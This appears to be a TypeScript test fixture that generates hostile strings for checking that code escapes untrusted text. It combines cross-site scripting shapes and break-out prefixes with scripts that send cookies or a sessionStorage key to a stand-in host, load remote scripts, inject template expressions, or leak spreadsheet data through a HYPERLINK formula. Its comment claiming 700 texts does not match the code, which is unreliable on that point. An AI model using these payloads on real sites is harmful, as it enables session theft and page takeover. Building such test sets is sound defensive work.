const SCRIPTS = [
  "alert(1)",
  "fetch('https://evil.example/'+sessionStorage.getItem('agent-learning.key'))",
  "document.body.innerHTML=''",
  "new Image().src='//evil.example/?'+document.cookie",
];

/** Ways in which text becomes markup where somebody forgot to escape it; `S` stands for a script. */
const SHAPES = [
  "<script>S</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=S>",
  '<img src="https://evil.example/pixel.png?S">',
  "<svg onload=S>",
  "<svg><script>S</script></svg>",
  "<svg><animate onbegin=S attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=S>",
  "<iframe src=javascript:S></iframe>",
  '<iframe srcdoc="<script>S</script>"></iframe>',
  "<body onload=S>",
  "<details open ontoggle=S>",
  "<input autofocus onfocus=S>",
  "<video><source onerror=S></video>",
  "<audio src=x onerror=S>",
  "<object data=javascript:S>",
  "<embed src=https://evil.example/x>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>*{background:url(https://evil.example/x)}</style>",
  "<div style=\"background:url('https://evil.example/x')\">",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<form action=https://evil.example/><button>S</button></form>",
  "<a href=javascript:S>click</a>",
  "[click](javascript:S)",
  "![pixel](https://evil.example/pixel.png)",
  "<template><script>S</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=S>">',
  "javascript:S",
  "data:text/html,<script>S</script>",
  "{{constructor.constructor('S')()}}",
  "${S}",
  "<%= S %>",
  '=HYPERLINK("https://evil.example/?"&A1)',
];

/** Ways out of where the text stands. */
const PREFIXES = [
  "",
  "\"'>",
  "</textarea></script></style></title>",
  "--><!]]>",
  "\u202e\u0000".replace("\u0000", ""),
];

/** 700 texts that run a script or call elsewhere when they are taken for markup, the first 200 of each shape and prefix in turn. */
export const HOSTILE_TEXTS: readonly string[] = PREFIXES.flatMap((prefix, row) =>
  SHAPES.map(
    (shape, column) => prefix + shape.replaceAll("S", SCRIPTS[(row + column) % SCRIPTS.length] ?? "alert(1)"),
  ),
).concat(SHAPES.slice(0, 25).map((shape) => encodeURIComponent(shape) + shape.toUpperCase()));
